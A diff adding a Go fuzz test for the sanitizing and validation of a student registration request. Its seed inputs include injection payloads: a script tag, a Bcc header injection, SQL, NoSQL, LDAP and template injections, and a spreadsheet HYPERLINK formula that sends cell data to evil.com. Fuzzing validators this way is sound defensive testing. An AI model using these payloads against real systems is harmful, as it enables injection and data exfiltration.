@@ -0,0 +1,71 @@
+package registrationhttp
+
+import (
+	"errors"
+	"testing"
+
+	"github.com/ARUMANDESU/validation"
+	"github.com/ARUMANDESU/validation/is"
+	"github.com/google/uuid"
+
+	"gitlab.com/ucmsv2/ucms-backend/pkg/validationx"
+)
+
+func FuzzCompleteRegistrationRequestValidate(f *testing.F) {
+	// is.Email looks up the MX record of the domain, which would make every
+	// input wait on the DNS. The format check is the same without it.
+	emailRules := validationx.EmailRules
+	validationx.EmailRules = []validation.Rule{validation.Required, is.EmailFormat, validation.Length(5, 255)}
+	f.Cleanup(func() { validationx.EmailRules = emailRules })
+
+	groupID := uuid.New()
+	f.Add("STU001", "john_doe", "john@test.com", "John", "Doe", "Password123!", "123456", groupID[:])
+	for _, v := range []string{
+		"",
+		"  padded  ",
+		"John\r\n\r\n<script>alert(1)</script>",
+		"test@test.com\r\nBcc:attacker@evil.com",
+		"STU001\x00admin",
+		"STU\xc0\xbc001",
+		"John\u200B\u200CSmith",
+		"\u0430dmin@test.com",
+		"'; DROP TABLE users; --",
+		"{\"$ne\":null}@test.com",
+		"*)(uid=*))(|(uid=*@test.com",
+		"=HYPERLINK(\"http://evil.com?data=\"&A1&A2,\"Click\")",
+		"{{ config.items() }}",
+	} {
+		f.Add(v, v, v, v, v, v, v, []byte(v))
+	}
+
+	f.Fuzz(func(t *testing.T, barcode, username, email, firstName, lastName, password, code string, group []byte) {
+		req := CompleteStudentRegistrationRequest{
+			Barcode:          barcode,
+			Username:         username,
+			Email:            email,
+			FirstName:        firstName,
+			LastName:         lastName,
+			Password:         password,
+			VerificationCode: code,
+		}
+		if id, err := uuid.FromBytes(group); err == nil {
+			req.GroupId = id
+		}
+
+		req.Sanitized()
+		sanitized := req
+		req.Sanitized()
+		if req != sanitized {
+			t.Fatalf("Sanitized is not idempotent: %+v then %+v", sanitized, req)
+		}
+
+		err := req.Validate()
+		if req != sanitized {
+			t.Fatalf("Validate changed the request: %+v then %+v", sanitized, req)
+		}
+		var verrs validation.Errors
+		if err != nil && !errors.As(err, &verrs) {
+			t.Fatalf("Validate returned %T, not validation errors: %v", err, err)
+		}
+	})
+}